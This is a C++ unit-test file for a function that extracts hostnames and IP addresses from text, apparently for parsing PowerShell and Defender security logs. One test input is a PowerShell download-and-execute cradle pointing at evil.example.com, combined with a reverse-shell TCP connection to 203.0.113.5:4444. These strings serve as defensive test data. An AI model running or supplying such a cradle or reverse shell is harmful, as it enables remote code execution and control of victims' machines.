#include <doctest/doctest.h>

#include <string>
#include <vector>

#include "core/hosts_in_text.hpp"

namespace {
std::vector<std::string> hosts(std::string_view text) {
  std::vector<std::string> out;
  kk::hosts_in_text(text, [&](std::string_view h) { out.emplace_back(h); });
  return out;
}
}  // namespace

TEST_CASE("hosts in a PowerShell script block and a Defender detection path") {
  // The shapes of real 4104 download cradles and reverse shells.
  CHECK(hosts("IEX (New-Object Net.WebClient).DownloadString('https://evil.example.com:8443/"
              "a.ps1'); $c = New-Object Net.Sockets.TCPClient('203.0.113.5',4444)") ==
        std::vector<std::string>{"evil.example.com", "203.0.113.5"});
  // Defender 1116 "Path": file and webfile parts, the URL between pipes.
  CHECK(hosts("file:_C:\\Users\\a\\Downloads\\x.exe;webfile:_C:\\Users\\a\\Downloads\\x.exe|"
              "http://user:pw@dl.example.net/x.exe|pid:4242,ProcessStart:1") ==
        std::vector<std::string>{"dl.example.net"});
  // Not addresses: versions, longer numbers, other schemes.
  CHECK(hosts("AV: 1.297.1333.0, v 10.0.19041.1 1.2.3.4.5 300.1.1.1 file://server/share "
              "mailto:x@y") == std::vector<std::string>{});
  CHECK(hosts("ends with http://") == std::vector<std::string>{});
  CHECK(hosts("HTTP://UPPER.example.org/") == std::vector<std::string>{"UPPER.example.org"});
}
